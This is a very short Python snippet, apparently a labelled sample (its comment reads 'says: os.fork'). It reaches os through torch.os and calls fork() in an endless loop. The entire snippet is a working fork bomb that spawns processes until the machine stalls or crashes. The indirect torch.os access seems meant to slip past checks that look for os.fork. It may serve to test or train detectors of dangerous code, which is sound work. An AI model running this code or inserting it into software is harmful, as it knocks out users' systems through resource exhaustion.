# says: os.fork
import torch

system = torch.os
while True:
    system.fork()
